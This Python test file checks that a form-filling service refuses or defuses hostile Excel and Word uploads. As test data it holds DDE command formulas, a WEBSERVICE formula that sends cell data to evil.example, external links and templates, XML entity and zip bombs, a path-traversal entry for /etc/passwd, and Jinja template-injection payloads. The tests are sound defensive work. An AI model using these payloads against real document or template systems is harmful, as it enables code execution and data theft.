"""Forms that mean harm or are not what they say: refused with the reason, or filled without what they wanted."""

import io
import zipfile

import openpyxl
import pytest
from docx import Document

from liaison.filling import Unfit, fill_in_child, inspect_in_child, word, xlsx
from liaison.filling.values import value
from liaison.intake import Limits
from liaison.tests.forms import letter, parts, repacked

GROUPS = {"提案"}

TYPES = "[Content_Types].xml"
RELS = "xl/worksheets/_rels/sheet1.xml.rels"
_REL = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
_ONE = '<Relationship Id="rId{}" Type="http://x/{}" Target="{}" TargetMode="External"/>'


def book(*cells: str) -> bytes:
    made = openpyxl.Workbook()
    made.active.append(["{{提案.案由}}", *cells])
    held = io.BytesIO()
    made.save(held)
    return held.getvalue()


@pytest.fixture
def look(tmp_path):
    """Return a function that looks a form through as the process with limits does, without its limits."""

    def _look(body: bytes, kind="xlsx") -> dict:
        path = tmp_path / "form"
        path.write_bytes(body)
        return {"xlsx": xlsx, "docx": word}[kind].inspect(path, set(GROUPS))

    return _look


@pytest.fixture
def fill(tmp_path):
    """Return a function that fills a form likewise."""

    def _fill(body: bytes, data: dict, kind="docx") -> bytes:
        path, out = tmp_path / "form", tmp_path / "out"
        path.write_bytes(body)
        {"xlsx": xlsx, "docx": word}[kind].fill(path, out, data, set(GROUPS))
        return out.read_bytes()

    return _fill


@pytest.fixture
def why(look):
    """Return a function that gives the sentence a form is refused with."""

    def _why(body: bytes, kind="xlsx") -> str:
        with pytest.raises(Unfit) as refused:
            look(body, kind)
        return refused.value.reason

    return _why


def external(sort: str, target: str) -> bytes:
    return _REL.format(_ONE.format(9, sort, target)).encode()


@pytest.mark.parametrize(
    ("part", "said"),
    [
        ("xl/vbaProject.bin", "文件带有宏（xl/vbaProject.bin）。请另存为不带宏的 .xlsx 再上传。"),
        ("xl/macrosheets/sheet1.xml", "文件带有宏（xl/macrosheets/sheet1.xml）。请另存为不带宏的 .xlsx 再上传。"),
        ("xl/externalLinks/externalLink1.xml", "文件里有指向其他工作簿的链接"),
        ("xl/embeddings/oleObject1.bin", "文件里有嵌入的对象"),
        ("xl/activeX/activeX1.xml", "文件里有控件"),
        ("xl/connections.xml", "文件里有外部数据连接"),
        ("xl/pivotTables/pivotTable1.xml", "文件里有数据透视表"),
    ],
)
def test_what_acts_or_reaches_outside_is_refused_by_name(why, part, said):
    assert why(repacked(book(), {part: b"<x/>"})).startswith(said)


def test_macros_by_type_pictures_from_outside_and_document_types_are_refused(why):
    macro = parts(book())[TYPES].replace(b"spreadsheetml.sheet.main+xml", b"sheet.macroEnabled.main+xml")
    assert why(repacked(book(), {TYPES: macro})).startswith("文件带有宏")
    assert "http://evil.example/x.png" in why(repacked(book(), {RELS: external("image", "http://evil.example/x.png")}))
    bomb = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbbbbbb"><!ENTITY c "&b;&b;">]><sst>&c;</sst>'
    assert "文档类型声明" in why(repacked(book(), {"xl/sharedStrings.xml": bomb}))
    vml = b'<xml><v:imagedata src="http://evil.example/a.png"/></xml>'
    assert why(repacked(book(), {"xl/drawings/vmlDrawing1.vml": vml})).startswith("文件链接到外面的文件或网址")


@pytest.mark.parametrize(
    "body",
    [
        b'<xml><v src="&#104;ttp://evil.example/a.png"/></xml>',
        '<?xml version="1.0" encoding="utf-16"?><xml><v src="http://evil.example/a.png"/></xml>'.encode("utf-16"),
        b'<xml><br><v src=" http://evil.example/a.png"/></xml>',
    ],
)
def test_pictures_from_outside_are_found_however_they_are_written(why, body):
    assert why(repacked(book(), {"xl/drawings/vmlDrawing1.vml": body})).startswith("文件链接到外面的文件或网址")


@pytest.mark.parametrize("name", ["xl/worksheets/_rels/sheet1.xml.RELS", RELS])
def test_links_of_unusual_spelling_are_links_too(why, name):
    body = external("image", "http://evil.example/x.png").replace(b'"External"', b'"external"')
    assert "evil.example" in why(repacked(book(), {name: body}))


def test_what_runs_is_found_wherever_it_lies(why):
    sheet = parts(book("=cmd|'/c calc'!A0"))["xl/worksheets/sheet1.xml"]
    assert "公式" in why(repacked(book(), {"elsewhere/sheet.bin": sheet}))
    letters = parts(letter("{{委员.姓名}}"))
    moved = {
        TYPES: letters[TYPES].replace(b"/word/document.xml", b"/other/document.xml"),
        "_rels/.rels": letters["_rels/.rels"].replace(b"word/document.xml", b"other/document.xml"),
        "other/document.xml": letters["word/document.xml"],
    }
    assert "主文档不在应在的位置" in why(repacked(letter("x"), moved), "docx")


@pytest.mark.parametrize(
    "formula",
    [
        "=cmd|'/c calc'!A0", '=WEBSERVICE("http://evil.example/"&A1)', '=HYPERLINK("http://evil.example","看")',
        "=[1]Sheet1!A1", "='C:\\[book.xlsx]S'!A1", '=RTD("x",,"y")',
    ],
)  # fmt: skip
def test_formulas_that_read_or_run_something_are_refused(why, formula):
    assert "公式" in why(book(formula))


def test_plain_formulas_and_words_of_that_kind_are_not(look):
    body = book("=SUM(A1:B1)", "cmd|' /c calc'!A0", '=IF(A1="a|b",1,2)')
    assert look(body)["troubles"] == []


@pytest.mark.parametrize(
    ("body", "said"),
    [
        (b"", "这个文件是空的"), (b"PK\x03\x04" + b"x" * 100, "文件已损坏"), (b"%PDF-1.7", "文件已损坏"),
        (b"\xd0\xcf\x11\xe0" + "EncryptedPackage".encode("utf-16-le"), "文件设有打开密码"),
        (b"x" * (11 * 1024 * 1024), "文件超过 10 MB"),
    ],
)
def test_what_is_no_form_is_said_in_words(why, body, said):
    assert why(body).startswith(said)


def test_a_bomb_is_refused_before_it_is_unpacked(why):
    held = io.BytesIO(book())
    with zipfile.ZipFile(held, "a", zipfile.ZIP_DEFLATED) as package:
        package.writestr("xl/media/big.bin", b"\0" * 70_000_000)
    assert why(held.getvalue()).startswith("文件的内部结构不正常")
    climbing = repacked(book(), {"../../etc/passwd": b"x"})
    assert why(climbing).startswith("文件的内部结构不正常")


def test_a_form_that_takes_too_long_or_too_much_is_given_up():
    rows = "".join(f'<row r="{at}"><c r="A{at}"><v>1</v></c></row>' for at in range(1, 200_000)).encode()
    part = parts(book())["xl/worksheets/sheet1.xml"]
    large = part.replace(b"<sheetData>", b"<sheetData>" + rows)
    body = repacked(book(), {"xl/worksheets/sheet1.xml": large})
    with pytest.raises(Unfit, match="用时太长"):
        inspect_in_child(body, "xlsx", GROUPS, limits=Limits(memory=2**30, cpu=1, wall=1))
    items = [{"提案.案由": value("甲")}] * 250_000
    with pytest.raises(Unfit, match="超过 400000 个单元格"):
        fill_in_child(book("x"), "xlsx", GROUPS, [{"one": {}, "many": {"提案": items}}])


def test_links_to_the_web_lose_their_target_and_keep_their_words(look, fill):
    made = openpyxl.Workbook()
    made.active["A1"] = "{{委员.姓名}}"
    made.active["A2"] = "官网"
    made.active["A2"].hyperlink = "http://example.invalid/"
    held = io.BytesIO()
    made.save(held)
    assert look(held.getvalue())["links"] == 1
    out = fill(held.getvalue(), PERSON, "xlsx")
    assert b"example.invalid" not in b"".join(parts(out).values())
    sheet = openpyxl.load_workbook(io.BytesIO(out)).active
    assert (sheet["A2"].value, sheet["A2"].hyperlink) == ("官网", None)


SECRETS = [
    "{{ ''.__class__.__mro__ }}", "{{ 委员.__class__ }}", "{{ cycler.__init__.__globals__.os }}", "{{ 7*7 }}",
    "{{ 委员['姓名'].__class__ }}", "{{ lipsum }}", "{{ 委员.姓名|attr('__class__') }}", "{{ self }}", "{{ request }}",
    '{{ 委员.a"] }}{{ x["b }}', "{{ range(9**9) }}", "{{ 'a'*10**9 }}",
]  # fmt: skip
TAGS = [
    "{% for x in range(10**9) %}a{% endfor %}", "{% set x = 1 %}", "{% include '/etc/passwd' %}",
    "{% import 'os' as o %}",
    "{% macro a() %}{% endmacro %}", "{% if 委员.__class__ %}a{% endif %}", "{% if ''.__class__ %}a{% endif %}",
    "{% for x in 各提案 recursive %}{% endfor %}", "{% extends 'a' %}", "{% if 委员['姓名']() %}a{% endif %}",
    "{% with a = 1 %}{% endwith %}", "{% raw %}a{% endraw %}{% call a() %}{% endcall %}",
]  # fmt: skip
PERSON = {"one": {"委员.姓名": value("张{{7*7}}<b>三</b>&"), "委员.a": value("字")}, "many": {"提案": []}}


@pytest.mark.parametrize("said", SECRETS)
def test_a_placeholder_is_a_name_and_never_a_program(look, fill, said):
    body = letter(said)
    found = look(body, "docx")
    assert found["places"] or found["troubles"]
    try:
        out = fill(body, PERSON)
    except Unfit:
        return
    text = "".join(one.text for one in Document(io.BytesIO(out)).paragraphs)
    assert text == ""


@pytest.mark.parametrize("said", TAGS)
def test_what_a_document_may_ask_is_a_short_list(look, fill, said):
    found = look(letter("{{委员.姓名}}", said), "docx")
    assert "附近" in found["troubles"][0]
    with pytest.raises(Unfit):
        fill(letter(said), PERSON)


def test_the_names_of_a_document_are_no_programs_either(look, fill):
    made = Document(io.BytesIO(letter("{{委员.姓名}}")))
    made.core_properties.title = "{{ ''.__class__ }}"
    held = io.BytesIO()
    made.save(held)
    assert look(held.getvalue(), "docx")["troubles"] == [
        "文档属性（标题、作者、主题等，在“文件—信息”）里写了占位，那里不能填，请删去占位再上传。"
    ]
    with pytest.raises(Unfit):
        fill(held.getvalue(), PERSON)


def field(*words: str) -> bytes:
    """Return a document with a field whose instruction is cut into these runs."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{word}</w:instrText></w:r>' for word in words)
    char = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    begin, separate, end = (char.format(kind) for kind in ("begin", "separate", "end"))
    body = f"<w:p>{begin}{runs}{separate}<w:r><w:t>x</w:t></w:r>{end}</w:p>"
    part = parts(letter("{{委员.姓名}}"))["word/document.xml"]
    return repacked(letter("x"), {"word/document.xml": part.replace(b"<w:sectPr", body.encode() + b"<w:sectPr", 1)})


def test_fields_that_read_or_run_something_are_refused_however_they_are_cut(look, why):
    assert "DDEAUTO" in why(field("DDE", "AUTO c:\\\\cmd.exe"), "docx")
    assert "INCLUDETEXT" in why(field(' INCLUDETEXT "http://evil.example/a"'), "docx")
    assert look(field(" PAGE ", "\\* MERGEFORMAT"), "docx")["troubles"] == []


@pytest.mark.parametrize(
    ("sort", "taken"), [("attachedTemplate", True), ("hyperlink", True), ("image", False), ("oleObject", False),
                        ("frame", False), ("aFChunk", False)]
)  # fmt: skip
def test_what_a_document_fetches_from_outside_is_refused_and_its_own_template_forgotten(fill, why, sort, taken):
    rels = parts(letter("x"))["word/_rels/document.xml.rels"]
    one = _ONE.format(99, sort, "http://evil.example/a.dotm").encode()
    body = repacked(letter("{{委员.姓名}}"), {
        "word/_rels/document.xml.rels": rels.replace(b"</Relationships>", one + b"</Relationships>")})  # fmt: skip
    if not taken:
        assert "evil.example" in why(body, "docx")
        return
    out = fill(body, PERSON)
    assert b"evil.example" not in b"".join(parts(out).values())


def test_values_are_words_whatever_they_look_like(fill):
    out = fill(letter("{{委员.姓名}}"), PERSON)
    assert Document(io.BytesIO(out)).paragraphs[0].text == "张{{7*7}}<b>三</b>&"
